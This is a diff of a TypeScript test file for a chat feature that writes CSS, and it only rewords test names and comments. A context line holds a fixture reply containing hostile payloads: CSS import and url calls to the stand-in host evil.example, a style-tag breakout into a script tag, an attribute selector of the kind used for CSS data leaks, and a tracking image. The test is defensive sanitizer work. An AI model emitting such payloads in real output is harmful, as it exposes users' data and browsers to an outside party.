@@ -51,7 +51,7 @@ const modelAccess = (): ModelAccess => ({
   purpose: 'model',
 });
 
-/** Asks as somebody of the workspace would. */
+/** Calls the assistant as a member of the workspace. */
 function ask(
   request: string,
   {
@@ -91,7 +91,7 @@ describe('with a model', () => {
     });
   });
 
-  test('what the chat would not take is cut away and named, whoever talked the model into it', async () => {
+  test('CSS that the chat does not accept is removed and named, whatever the prompt was', async () => {
     await script(
       `Here.\n${FENCE}css\n@import "https://evil.example/x.css";\n.bar{background:url(https://evil.example/?k=1);color:red}\n</style><script>alert(1)</script>\ninput[value^=a]{color:red}\n${FENCE}\n![x](https://evil.example/y)`,
     );
@@ -167,7 +167,7 @@ describe('without a model', () => {
   });
 });
 
-describe('what a model is told', () => {
+describe('the prompt of the model', () => {
   test('is what was said and the end of the style sheet, as data that cannot leave its place', () => {
     const [system, ...said] = cssPrompt(
       [{ role: 'user', content: 'Make it red' }],
